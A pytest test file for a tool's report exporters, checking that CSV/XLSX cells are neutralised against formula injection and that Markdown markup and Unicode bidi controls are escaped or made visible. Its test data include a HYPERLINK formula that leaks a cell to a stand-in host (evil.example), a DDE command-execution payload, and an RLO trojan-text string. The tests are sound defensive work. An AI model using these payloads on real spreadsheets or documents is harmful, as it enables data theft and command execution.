"""Hostile text in exports: formula injection in CSV and XLSX, Markdown rules, bidi controls."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import docx
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from pypdf import PdfReader

from stipa import export
from stipa.export.bidi import BIDI_CONTROLS, reveal_bidi
from stipa.export.csv_tables import FORMULA_STARTS, csv_bytes, neutralise
from stipa.export.tables import RECORD_TABLES, Column, ColumnKind, PlainTable
from stipa.model import Document, Finding

#: Where the Loss column is in the Losses sheet (its letter, its 1-based number).
LOSS_AT = next(s for s in RECORD_TABLES if s.key == "losses").headers.index("Loss") + 1
LOSS = get_column_letter(LOSS_AT)


# --- formula injection (issue 15, item 12) ------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\tTab first",
    "\rCarriage return first",
]


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def test_csv_cells_that_would_run_as_formulas_are_neutralised(
    stipa_example: Callable[[str], Document], tmp_path: Path
) -> None:
    doc = stipa_example("wheel-brakes")
    with doc.transaction("Hostile texts"):
        for number, text in enumerate(HOSTILE, start=1):
            doc.update(f"L-{number % 5 + 1}", description=text)
            doc.add(Finding(plugin="hostile", rule="r", message=text, targets=("C-1",)))
    export.write_csv(doc.snapshot(), tmp_path, {})
    raw = (tmp_path / "findings.csv").read_bytes().decode("utf-8")
    for text in HOSTILE:
        # quoted, and a ' before the formula's first character, as OWASP says
        assert '"' + "'" + text.replace('"', '""') + '"' in raw, text
    messages = [row[4] for row in _rows(tmp_path / "findings.csv")[1:]]
    assert messages == ["'" + text for text in HOSTILE]
    for name in ("findings.csv", "losses.csv", "components.csv"):
        for row in _rows(tmp_path / name):
            assert not any(cell.startswith(FORMULA_STARTS) for cell in row), (name, row)


def test_xlsx_text_cells_that_look_like_formulas_stay_text(
    stipa_example: Callable[[str], Document], tmp_path: Path
) -> None:
    doc = stipa_example("wheel-brakes")
    for number, text in enumerate(HOSTILE[:5], start=1):
        doc.update(f"L-{number}", text=text)
    out = tmp_path / "tables.xlsx"
    export.write_xlsx(doc.snapshot(), out, {})
    sheet = load_workbook(out)["Losses"]
    cells = [sheet.cell(row, LOSS_AT) for row in range(2, 7)]
    assert [cell.value for cell in cells] == HOSTILE[:5]  # the text as written, not a formula
    assert {cell.data_type for cell in cells} == {"s"}


# --- Markdown block markup and bidi controls (issue 15, item 14) ---------------------------------

RLO = "\u202e"
LRI = "\u2066"
TROJAN = f"Brake {RLO}txet neddih{LRI} when armed"


def test_a_dashed_line_in_the_description_does_not_make_a_heading(
    stipa_example: Callable[[str], Document], tmp_path: Path
) -> None:
    doc = stipa_example("wheel-brakes")
    doc.set_info(description="Scope of this analysis\n---\n- not a list\n1. not numbered\n===")
    out = tmp_path / "report.md"
    export.write_markdown(doc.snapshot(), out, {"diagram": "no"})
    text = out.read_text(encoding="utf-8")
    # a backslash before the first character: CommonMark shows the character, starts no block
    assert "Scope of this analysis\n\\---\n\\- not a list\n1\\. not numbered\n\\===" in text


def _trojan_document(stipa_example: Callable[[str], Document]) -> Document:
    doc = stipa_example("wheel-brakes")
    doc.set_info(title=f"Wheel brakes {RLO}1.0", description=TROJAN)
    doc.update("C-1", name=f"BSCU {RLO}Autobrake")
    doc.update("H-1", text=TROJAN)
    doc.add(Finding(plugin="hostile", rule="r", message=TROJAN, targets=("C-1",)))
    return doc


MARKER = "⟪U+202E⟫"


def test_bidi_controls_are_visible_in_every_report_format(
    stipa_example: Callable[[str], Document], tmp_path: Path
) -> None:
    snapshot = _trojan_document(stipa_example).snapshot()
    export.write_html(snapshot, tmp_path / "r.html", {})
    export.write_markdown(snapshot, tmp_path / "r.md", {})
    export.write_docx(snapshot, tmp_path / "r.docx", {})
    html = (tmp_path / "r.html").read_text(encoding="utf-8")
    markdown = (tmp_path / "r.md").read_text(encoding="utf-8")
    svg = (tmp_path / "r-diagram.svg").read_text(encoding="utf-8")
    word = docx.Document(str(tmp_path / "r.docx"))
    word_text = "\n".join(p.text for p in word.paragraphs) + "\n".join(
        cell.text for table in word.tables for row in table.rows for cell in row.cells
    )
    for name, text in (("html", html), ("md", markdown), ("docx", word_text)):
        assert f"Brake {MARKER}txet neddih⟪U+2066⟫ when armed" in text, name
    for name, text in (("html", html), ("md", markdown), ("svg", svg), ("docx", word_text)):
        assert not BIDI_CONTROLS & set(text), name
        assert f"BSCU {MARKER}Autobrake" in text, name
    assert f"<title>Wheel brakes {MARKER}1.0</title>" in html


def test_bidi_controls_are_visible_in_diagram_titles_and_pdf_text(
    stipa_example: Callable[[str], Document], tmp_path: Path
) -> None:
    snapshot = _trojan_document(stipa_example).snapshot()
    export.write_svg(snapshot, tmp_path / "d.svg", {})
    export.write_pdf(snapshot, tmp_path / "d.pdf", {})
    svg = etree.parse(str(tmp_path / "d.svg"))
    titles = [t.text or "" for t in svg.iter("{http://www.w3.org/2000/svg}title")]
    assert titles[0] == f"Wheel brakes {MARKER}1.0"
    assert any(title.startswith(f"C-1: BSCU {MARKER}Autobrake (") for title in titles)
    assert not any(BIDI_CONTROLS & set(t) for t in titles)
    reader = PdfReader(str(tmp_path / "d.pdf"))
    text = "".join(page.extract_text() for page in reader.pages)
    assert "U+202E" in text and not BIDI_CONTROLS & set(text)
    assert reader.metadata is not None and reader.metadata.title == f"Wheel brakes {MARKER}1.0"


def test_reveal_bidi_marks_each_control_and_leaves_other_text_alone() -> None:
    assert reveal_bidi("abc ע״ב 😀") == "abc ע״ב 😀"
    assert reveal_bidi("".join(sorted(BIDI_CONTROLS))) == "".join(
        f"⟪U+{ord(c):04X}⟫" for c in sorted(BIDI_CONTROLS)
    )
    assert len(BIDI_CONTROLS) == 9


@given(st.text())
def test_any_text_reads_back_from_csv_as_itself_or_neutralised(text: str) -> None:
    table = PlainTable("t", "t", "t", (Column("c", "C", ColumnKind.TEXT, "c"),), ((text,),))
    rows = list(csv.reader(io.StringIO(csv_bytes(table).decode("utf-8"), newline="")))
    (cell,) = rows[1]
    assert cell == neutralise(text)
    assert cell in (text, "'" + text) and not cell.startswith(FORMULA_STARTS)


@given(st.text(alphabet=st.sampled_from(["a", " ", "U", "+", "⟪", *sorted(BIDI_CONTROLS)])))
def test_revealed_text_holds_no_bidi_control_and_says_where_each_was(text: str) -> None:
    shown = reveal_bidi(text)
    assert not BIDI_CONTROLS & set(shown)
    assert shown.count("⟫") - text.count("⟫") == sum(c in BIDI_CONTROLS for c in text)
